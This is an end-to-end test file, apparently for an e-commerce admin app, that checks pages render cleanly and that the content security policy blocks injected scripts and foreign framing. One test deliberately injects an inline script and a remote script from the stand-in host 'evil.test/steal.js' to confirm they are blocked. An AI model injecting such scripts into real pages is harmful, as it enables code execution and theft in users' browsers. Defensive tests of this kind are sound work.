/** The attack: a script, frame or service of somebody else's in the admin. What stops it must not stop the admin. */
import { adminClient } from "../helpers/clients"
import { adminEmail, baseUrl } from "../helpers/environment"
import { expectOk } from "../helpers/http"
import { type AdminSession, openAdmin, seen } from "./admin-session"

describe("the admin under its security headers", () => {
  let session: AdminSession

  beforeAll(async () => {
    session = await openAdmin()
  }, 120_000)
  afterAll(() => session?.close())

  it.each([
    ["/app/orders", "Orders"],
    ["/app/products", "Products"],
    ["/app/products/create", "General"],
    ["/app/customers", "Customers"],
    ["/app/settings/store", "Store"],
    ["/app/testimonials", "Testimonials"],
  ])("draws %s without a word in the console", async (path, heading) => {
    const page = await session.newPage()
    await page.goto(path)
    await seen(page.getByText(heading, { exact: true }).first())
    await page.waitForLoadState("networkidle")
    expect(session.problems).toEqual([])
    await page.close()
  })

  it("mails a link for a new password, and says so", async () => {
    const admin = await adminClient()
    const { users } = await expectOk(
      admin.get<{ users: { id: string; email: string }[] }>("/admin/users")
    )
    const owner = users.find(({ email }) => email === adminEmail())
    const page = await session.newPage()
    await page.goto(`/app/settings/users/${owner?.id}`)
    await seen(page.getByRole("heading", { name: adminEmail() }))
    const header = page
      .getByRole("heading", { name: adminEmail() })
      .locator("xpath=..")
    await header.getByRole("button").click()
    await page
      .getByRole("menuitem", { name: "Mail a link for a new password" })
      .click()
    await seen(
      page.getByText("Asked for: the link goes by mail to the admin it is for")
    )
    expect(session.problems).toEqual([])
  })

  // H1.6, the attack: a script that slipped into the admin.
  it("runs no script that slipped into its page, and is in no frame of another site (H1.6)", async () => {
    const page = await session.newPage()
    await page.goto("/app/orders")
    await page.evaluate(() => {
      const script = document.createElement("script")
      script.textContent = "window.stolen = 1"
      document.body.append(script)
      const remote = document.createElement("script")
      remote.src = "https://evil.test/steal.js"
      document.body.append(remote)
    })
    expect(await page.evaluate(() => "stolen" in window)).toBe(false)
    const { headers } = await fetch(`${baseUrl()}/app`)
    expect(headers.get("content-security-policy")).toContain(
      "frame-ancestors 'self'"
    )
    expect(session.problems.length).toBeGreaterThan(0)
    expect(session.problems.join()).toMatch(/Content Security Policy/)
  })
})
